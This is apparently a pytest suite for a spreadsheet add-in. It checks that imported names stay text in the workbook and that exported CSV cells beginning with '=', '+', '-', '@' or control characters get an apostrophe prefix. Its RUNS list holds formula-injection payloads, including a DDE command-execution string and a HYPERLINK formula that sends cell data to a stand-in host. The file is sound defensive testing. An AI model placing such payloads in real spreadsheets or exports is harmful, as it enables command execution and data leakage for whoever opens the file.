"""Text that a spreadsheet would run: it stays text in the book, and is made harmless in csv."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from addin.files.csvtext import csv_text, plain_text
from tests.bad_input.ledger import make_book
from tests.bad_input.reports import command
from tests.hostile.crafted import AS_OF

RUNS = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"pay")',
        "-Alpha", "+86 21 5555", "=", "-", "＝1+1", "＠x", "'=1+1", "-5x", "-1,000.00", "-1E5"]  # fmt: skip
"""Names; none begins with white space, which a name loses on its way anyway."""
SPACED = ["\t=1+1", "\r=1+1", "\n=1", " =1+1", "\0=1", "\tx"]


def imported(folder: Path, names: list[str]) -> Path:
    book, file = make_book(folder), folder / "rows.csv"
    with file.open("w", encoding="utf-8", newline="") as target:
        rows = [[f"K{place}", name] for place, name in enumerate(names)]
        csv.writer(target).writerows([["customer_id", "name"], *rows])
    ran = command("import", book, "customers", file)
    assert ran.code == 0, ran
    return book


def test_names_stay_text_in_the_book(tmp_path):
    book = imported(tmp_path, RUNS)
    sheet = load_workbook(book)["Customers"]
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=8, max_col=2)}
    for place, name in enumerate(RUNS):
        cell = cells[f"K{place}"]
        assert (cell.value, cell.data_type) == (plain_text(name), "s")


def test_no_formula_comes_in_by_an_import(tmp_path):
    def formulas(book: Path) -> int:
        with zipfile.ZipFile(book) as archive:
            return sum(len(re.findall(rb"<f[ >]", archive.read(name))) for name in archive.namelist())

    (tmp_path / "clean").mkdir()
    clean = make_book(tmp_path / "clean")
    assert formulas(imported(tmp_path, RUNS)) == formulas(clean)


def test_shown_as_csv_no_field_runs_and_figures_stay_figures(tmp_path):
    book = imported(tmp_path, RUNS)
    rows = list(
        csv.DictReader(io.StringIO(command("show", book, "customers", "--format", "csv").out, newline=""))
    )
    names = {row["customer_id"]: row["name"] for row in rows}
    for place, name in enumerate(RUNS):
        assert names[f"K{place}"] == csv_text(plain_text(name))
    assert not any(re.match(r"[=+\-@\t\r\n＝＋－＠]", name) for name in names.values())


def test_a_negative_amount_is_no_text(tmp_path):
    book, file = make_book(tmp_path), tmp_path / "rows.csv"
    file.write_text("adjustment_id,date,kind,milestone_id,amount\nA1,2026-03-01,Write-off,M001,-12.50\n")
    command("import", book, "adjustments", file)
    out = command("show", book, "adjustments", "--format", "csv", "--as-of", AS_OF).out
    row = next(csv.DictReader(io.StringIO(out, newline="")))
    assert row["amount"] in ("-12.50", ""), "a figure, or refused as one; never text with an apostrophe"
    assert "'" not in out


def test_csv_out_and_in_again_is_the_same_book(tmp_path):
    book = imported(tmp_path, RUNS)
    out = command("show", book, "customers", "--format", "csv").out
    again = tmp_path / "again"
    again.mkdir()
    other, file = make_book(again), again / "shown.csv"
    file.write_text(out, encoding="utf-8", newline="")
    assert command("import", other, "customers", file).code == 0
    assert command("show", other, "customers", "--format", "csv").out == out


@pytest.mark.parametrize("text", RUNS + SPACED)
def test_what_would_run_gets_an_apostrophe(text):
    assert csv_text(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-5", "+3.20", "C-01", "", "a=b", "'tis", "3-4", "x@y.example", "−5"])
def test_other_text_is_left_alone(text):
    assert csv_text(text) == text


@given(st.text(st.sampled_from("'=+-@\t\r\n 5.a\0＝"), max_size=8))
def test_taking_the_apostrophe_away_gives_every_text_back(text):
    assert plain_text(csv_text(text)) == text
    assert not re.match(r"[=@\t\r\n\0＝]", csv_text(text))
